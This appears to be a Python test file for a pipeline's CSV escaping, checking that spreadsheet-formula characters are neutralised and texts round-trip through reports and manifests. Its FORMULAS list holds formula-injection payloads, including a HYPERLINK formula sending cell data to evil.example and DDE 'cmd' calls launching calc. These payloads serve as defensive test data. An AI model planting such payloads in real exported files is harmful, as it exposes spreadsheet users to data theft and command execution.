"""CSV files that a spreadsheet opens hold no formula of somebody else's, and read back as what was written."""

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.csv
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.catalogue.manifest import Track, read_manifest
from pipeline.catalogue.problem_report import ProblemLog, ReportedProblem
from pipeline.service.batch_command import manifest_of
from pipeline.storage.csv_escaping import as_cells, cell, text_of

FORMULA_LETTERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"x")',
    "=2+3",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    "'=1",
    "-",
    "-1.5.2",
]
NUMBERS = ["-1.5", "+3", "-0", "-1,5", "-.5", "1e-5", "-1.5E+10", "+7."]
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]))
LIKELY = st.text(st.sampled_from(["'", "=", "-", "1", ".", "\t", "a", "\n", "\uff0d"]))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_no_longer_one(text: str) -> None:
    assert cell(text)[0] not in FORMULA_LETTERS
    assert text_of(cell(text)) == text


@pytest.mark.parametrize("text", [*NUMBERS, "", "rock", "'cause", "a=b", " =1", "''"])
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == text == text_of(text)


@given(ANY_TEXT | LIKELY)
@example("'-1.5")
def test_any_text_comes_back(text: str) -> None:
    assert text_of(cell(text)) == text
    column = as_cells(pa.table({"a": [text, None]}))["a"].to_pylist()
    assert column == [cell(text), None]


def test_numbers_of_a_table_are_no_texts() -> None:
    table = as_cells(pa.table({"=a": ["=1"], "b": [-1.5], "c": [True]}))
    assert table.to_pylist() == [{"'=a": "'=1", "b": -1.5, "c": True}]


def cells_of(content: str) -> list[str]:
    return [one for row in csv.reader(io.StringIO(content)) for one in row]


@pytest.mark.parametrize("ending", ["csv", "CSV"])
def test_a_report_holds_no_formula(tmp_path: Path, ending: str) -> None:
    file = tmp_path / f"report.{ending}"
    with ProblemLog(str(file)) as log:
        for text in FORMULAS:
            log.add(ReportedProblem(text, text, "kind", f"row 1: {text}"))
    written = cells_of(file.read_text())
    assert written
    assert not [one for one in written if one and one[0] in FORMULA_LETTERS]


def test_a_parquet_report_holds_the_texts_themselves(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    with ProblemLog(str(tmp_path / "report.parquet")) as log:
        log.add(ReportedProblem("=1", "-a.wav", "kind", "message"))
    assert pq.read_table(tmp_path / "report.parquet").to_pylist()[0]["track_id"] == "=1"


def test_our_own_reader_takes_the_marks_away(tmp_path: Path) -> None:
    texts = {"track_id": "a", "source": "+1.wav", "caption": "-- rock --", "lyrics": "=[verse]", "=own": "-1.5"}
    table = as_cells(pa.table({name: [text] for name, text in texts.items()}))
    pyarrow.csv.write_csv(table, tmp_path / "tracks.csv")
    (track,) = read_manifest(str(tmp_path / "tracks.csv"), own=("*",))
    assert isinstance(track, Track)
    assert (track.source, track.prompt.caption) == (str(tmp_path / "+1.wav"), "-- rock --")
    assert track.prompt.lyrics == "=[verse]"
    assert track.meta == {"=own": "-1.5"}


def test_a_manifest_of_the_service_is_read_back(tmp_path: Path) -> None:
    prompt = '{"caption": "=1+1", "lyrics": "-la\\n-la", "language": "en", "bpm": 90, "keyscale": "", '
    prompt += '"timesignature": ""}'
    order = {"track_id": "a", "source": "/m/a.wav", "reference": None, "prompt": prompt}
    (tmp_path / "m.csv").write_bytes(manifest_of(order))
    assert not [one for one in cells_of((tmp_path / "m.csv").read_text()) if one[:1] in ("=", "-")]
    (track,) = read_manifest(str(tmp_path / "m.csv"))
    assert isinstance(track, Track)
    assert (track.prompt.caption, track.prompt.lyrics) == ("=1+1", "-la\n-la")
